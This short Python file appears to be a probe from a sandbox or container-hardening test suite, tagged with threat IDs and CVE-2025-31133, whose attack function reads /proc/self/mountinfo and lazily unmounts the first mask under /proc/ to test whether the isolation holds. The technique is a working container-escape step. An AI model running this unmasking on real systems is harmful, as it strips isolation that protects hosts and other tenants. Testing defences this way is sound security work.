"""Takes a mask off /proc.

Threats: E3 E21 CVE-2025-31133
Contract: integrity
"""


def unmounts(point):
    libc("umount2", point.encode(), 2)  # MNT_DETACH
    return True


def attack():
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        points = [line.split()[4] for line in file]
    return first([point for point in points if point.startswith("/proc/")], unmounts)


run(attack)
